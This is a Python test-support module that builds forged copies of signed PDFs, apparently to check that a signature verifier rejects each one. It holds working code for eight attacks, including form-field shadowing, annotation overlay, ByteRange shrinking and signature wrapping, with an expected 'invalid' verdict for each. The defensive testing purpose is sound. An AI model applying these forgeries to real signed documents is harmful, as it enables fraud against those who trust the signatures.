"""Crafted attacks on signed PDFs: each takes signed bytes and returns a forged copy.

Shared by the attack-corpus tests and ``bench/attack_corpus.py``. Every attack changes what a
viewer shows (or tries to hide that it does) after the signature was made; the expected verdict of
each is in :data:`EXPECTED`.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

__all__ = ["ATTACKS", "EXPECTED", "form_pdf", "change_field_value", "swap_info", "replace_page_content",
           "shadow_field", "overlay_annotation", "shrink_byte_range", "redefine_signature_dict",
           "hide_in_contents_padding"]

Attack = Callable[[bytes], bytes]


def form_pdf(value: str = "1,000,000 VND", field: str = "amount") -> bytes:
    """A one-page result document with a filled text field (as a result template would carry)."""
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    pdf = canvas.Canvas(buf, pagesize=(420, 595), pageCompression=0)
    pdf.drawString(40, 540, "Quyet dinh 0001")
    pdf.acroForm.textfield(name=field, value=value, x=40, y=400, width=220, height=24, borderWidth=0)
    pdf.showPage()
    pdf.save()
    return buf.getvalue()


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _text_appearance(writer: IncrementalPdfFileWriter, text: str, width: float = 220,
                     height: float = 24) -> generic.IndirectObject:
    font = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Font"),
        generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
        generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
    }))
    stream = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.FloatObject(v) for v in (0, 0, width, height)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({
            generic.NameObject("/Font"): generic.DictionaryObject({generic.NameObject("/Helv"): font}),
        }),
    }, stream_data=f"1 1 1 rg 0 0 {width} {height} re f BT 0 g /Helv 12 Tf 2 7 Td ({text}) Tj ET".encode())
    return writer.add_object(stream)


def _first_text_field(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/FT") == "/Tx":
            return field
    raise ValueError("no text field")


def change_field_value(signed: bytes, value: str = "9,000,000 VND") -> bytes:
    """Issue 16 defect 1: a filled field changed in an incremental update, with a new appearance."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    field = _first_text_field(writer)
    field[generic.NameObject("/V")] = generic.TextStringObject(value)
    field[generic.NameObject("/AP")] = generic.DictionaryObject({
        generic.NameObject("/N"): _text_appearance(writer, value)})
    writer.update_container(field)
    return _write(writer)


def shadow_field(signed: bytes, value: str = "9,000,000 VND") -> bytes:
    """Form-field shadowing: a new field whose widget is drawn over the signed one."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    field = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/FT"): generic.NameObject("/Tx"),
        generic.NameObject("/T"): generic.TextStringObject("amount_shadow"),
        generic.NameObject("/V"): generic.TextStringObject(value),
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (40, 400, 260, 424)]),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/P"): page_ref,
        generic.NameObject("/AP"): generic.DictionaryObject({
            generic.NameObject("/N"): _text_appearance(writer, value)}),
    }))
    annots = page.get("/Annots")
    annots = generic.ArrayObject(list(annots.get_object()) if annots is not None else [])
    annots.append(field)
    page[generic.NameObject("/Annots")] = annots
    writer.update_container(page)
    acroform = writer.root["/AcroForm"]
    fields = generic.ArrayObject(list(acroform["/Fields"]))
    fields.append(field)
    acroform[generic.NameObject("/Fields")] = fields
    writer.update_container(acroform)
    return _write(writer)


def overlay_annotation(signed: bytes, text: str = "9,000,000 VND") -> bytes:
    """A FreeText annotation with an opaque appearance drawn over signed page content."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    annot = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (30, 530, 250, 554)]),
        generic.NameObject("/Contents"): generic.TextStringObject(text),
        generic.NameObject("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/AP"): generic.DictionaryObject({
            generic.NameObject("/N"): _text_appearance(writer, text)}),
    }))
    annots = page.get("/Annots")
    annots = generic.ArrayObject(list(annots.get_object()) if annots is not None else [])
    annots.append(annot)
    page[generic.NameObject("/Annots")] = annots
    writer.update_container(page)
    return _write(writer)


def replace_page_content(signed: bytes, text: str = "Receipt 0998") -> bytes:
    """Incremental content replacement: the page's /Contents points at a new stream."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    font = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Font"),
        generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
        generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
    }))
    resources = generic.DictionaryObject({generic.NameObject("/Font"): generic.DictionaryObject({
        generic.NameObject("/F9"): font})})
    stream = generic.StreamObject({}, stream_data=f"BT /F9 14 Tf 40 540 Td ({text}) Tj ET".encode())
    page[generic.NameObject("/Contents")] = writer.add_object(stream)
    page[generic.NameObject("/Resources")] = resources
    writer.update_container(page)
    return _write(writer)


def swap_info(signed: bytes, key: str = "/OfficerDeskQR", value: str = "ODR1:R:FORGED") -> bytes:
    """Metadata swap: the document information dictionary replaced in an incremental update."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    old = reader.trailer_view.get("/Info")
    entries = dict(old.get_object().items()) if old is not None else {}
    entries[generic.NameObject(key)] = generic.TextStringObject(value)
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    writer.set_info(generic.DictionaryObject(entries))
    return _write(writer)


_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def shrink_byte_range(signed: bytes) -> bytes:
    """ByteRange attack: the last range shortened (same width) and text changed outside it."""
    match = _BYTE_RANGE.search(signed)
    assert match is not None
    a, b, c, d = (int(x) for x in match.groups())
    shorter = max(d - 400, 1)
    field = match.group(4)
    new_d = str(shorter).rjust(len(field)).encode()
    forged = signed[:match.start(4)] + new_d + signed[match.end(4):]
    # change one byte in the now uncovered tail (the xref / trailer area)
    tail = c + shorter + 10
    return forged[:tail] + (b" " if forged[tail:tail + 1] != b" " else b"\n") + forged[tail + 1:]


def redefine_signature_dict(signed: bytes, text: str = "Receipt 0998") -> bytes:
    """Signature wrapping: content replaced AND the signature dictionary re-declared in the new revision,
    so a verifier that trusts the newest copy of /ByteRange sees a signature "covering" the update."""
    replaced = replace_page_content(signed, text)
    match = _BYTE_RANGE.search(signed)
    assert match is not None
    writer = IncrementalPdfFileWriter(io.BytesIO(replaced))
    from pyhanko.sign.fields import enumerate_sig_fields

    for _name, value, _ref in enumerate_sig_fields(writer):
        if value is None:
            continue
        sig_dict = value.get_object()
        a, b, c, _d = (int(x) for x in match.groups())
        sig_dict[generic.NameObject("/ByteRange")] = generic.ArrayObject(
            [generic.NumberObject(a), generic.NumberObject(b), generic.NumberObject(c),
             generic.NumberObject(len(replaced) - c)])
        writer.update_container(sig_dict)
        break
    return _write(writer)


def hide_in_contents_padding(signed: bytes) -> bytes:
    """Bytes hidden in the unsigned zero padding of /Contents (a PDF object smuggled there)."""
    start = signed.index(b"/Contents <") + len(b"/Contents <")
    end = signed.index(b">", start)
    hexdata = signed[start:end]
    stripped = hexdata.rstrip(b"0")
    room = len(hexdata) - len(stripped)
    payload = b"41" * min(room // 2 - 2, 64)
    if room < 8 or not payload:
        return signed
    forged_hex = stripped + (b"0" * 4) + payload + b"0" * (len(hexdata) - len(stripped) - 4 - len(payload))
    return signed[:start] + forged_hex + signed[end:]


ATTACKS: dict[str, Attack] = {
    "incremental_content_replacement": replace_page_content,
    "form_field_value_change": change_field_value,
    "form_field_shadowing": shadow_field,
    "annotation_overlay": overlay_annotation,
    "metadata_swap": swap_info,
    "byte_range_shrunk": shrink_byte_range,
    "signature_wrapping": redefine_signature_dict,
    "contents_padding": hide_in_contents_padding,
}
"""Attacks on the document itself; forged chains are made from certificates (see the tests)."""

EXPECTED: dict[str, str] = {
    "incremental_content_replacement": "invalid",
    "form_field_value_change": "invalid",
    "form_field_shadowing": "invalid",
    "annotation_overlay": "invalid",
    "metadata_swap": "invalid",
    "byte_range_shrunk": "invalid",
    "signature_wrapping": "invalid",
    # padding of /Contents is outside the signed bytes and shows nothing: the page is unchanged, but
    # CMS with trailing garbage is refused, so the verdict is invalid rather than valid.
    "contents_padding": "invalid",
}
